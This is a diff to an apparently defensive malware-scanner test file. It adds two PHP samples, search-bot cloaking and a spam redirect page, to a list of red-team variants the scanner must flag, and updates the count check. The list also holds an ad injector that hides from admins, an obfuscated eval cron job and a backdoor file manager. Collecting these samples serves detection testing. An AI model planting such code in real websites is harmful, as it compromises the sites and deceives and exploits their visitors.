@@ -76,6 +76,8 @@ const VARIANTS: [string, string][] = [
   ["/srv/www/s44b/ev14_ads_strpos.php", "<?php\nerror_reporting(0);\nif (!function_exists('post_extra')) {\nfunction post_extra($content) { if (is_single()) $content .= '<script async src=\"//ads.example.net/p.php?z=77\"></script>'; return $content; }\nfunction footer_extra() { if (!is_single()) echo '<script src=\"//ads.example.net/f.php?z=78\"></script>'; }\nif (current_user_can('edit_others_pages')) {\n  $seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');\n  if (strpos($seen, $_SERVER['REMOTE_ADDR']) === false) @file_put_contents(ABSPATH . 'wp-includes/wp-feed.php', $seen . $_SERVER['REMOTE_ADDR'] . \"\\n\");\n}\nif (!is_user_logged_in()) {\n  $list = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');\n  if (strpos($list, $_SERVER['REMOTE_ADDR']) === false) { add_filter('the_content', 'post_extra'); add_action('wp_footer', 'footer_extra'); }\n}\n}\n"],
   ["/srv/www/s44b/ev24_cron_userfield.txt", "# /etc/cron.d/php-sessionclean-x\n*/10 * * * * www-data /usr/local/bin/php -r 'eval(gzinflate(base64_decode(\"S03OyFdIzs8rSc0rUcjPSQEA\")));' >/dev/null 2>&1\n"],
   ["/srv/www/s44b/ev33_fm_realpath_var.php", "<?php\n$path = isset($_GET['path']) ? realpath($_GET['path']) : realpath(__DIR__);\nif (!$path) $path = realpath(__DIR__);\n$cwd = $path;\nif (isset($_GET['del'])) { $t = $cwd . '/' . basename($_GET['del']); is_dir($t) ? rmdir($t) : unlink($t); header('Location: ?path=' . urlencode($cwd)); exit; }\nif (isset($_POST['save'])) { $f = $cwd . '/' . basename($_POST['file']); file_put_contents($f, $_POST['content']); exit; }\nforeach (scandir($cwd) as $i) echo '<a href=\"?path=' . urlencode($cwd . '/' . $i) . '\">' . htmlspecialchars($i) . '</a><br>';\n"],
+  ["/srv/www/s44b/ev02_cloak_var.php", "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');\nif ($_SERVER['REQUEST_URI'] == '/' && (strpos($ua, 'bot') !== false || strpos($ua, 'google') !== false)) {\n    $page = file_get_contents('https://links-4u.pages.dev/home');\n    echo $page;\n    exit();\n}\ndefined('BASEPATH') OR exit('No direct script access allowed');\n"],
+  ["/srv/www/s44b/ev20_spam_literal.php", "<?php\nfunction words($n) { $w = ['river', 'stone', 'lamp', 'quiet', 'orange', 'field']; $o = []; for ($i = 0; $i < $n; $i++) $o[] = $w[array_rand($w)]; return implode(' ', $o); }\n$r = gethostbyname($_SERVER['HTTP_HOST'] . '.dbl.spamhaus.org');\nif (preg_match('/^127\\.0\\.1/', $r)) { header('HTTP/1.1 404 Not Found'); exit; }\n$to = array_map(fn($c) => ord($c) + 7, str_split('http://pills.example/?a=1'));\necho '<html><head><title>' . words(4) . '</title></head><body><p>' . words(60) . '</p><script>var k=7,b=[' . implode(',', $to) . '],s=\"\";for(var i=0;i<b.length;i++)s+=b[i];window.location.href=\"http://pills.example/?a=1\";</script></body></html>';\n"],
 ];
 
 describe("scan: red teams S44R and S44B", () => {
@@ -92,5 +94,5 @@ describe("scan: red teams S44R and S44B", () => {
       assert.equal(r.verdict, "malicious", why(r));
     });
   }
-  it("ran every variant", () => assert.equal(VARIANTS.length, 21));
+  it("ran every variant", () => assert.equal(VARIANTS.length, 23));
 });
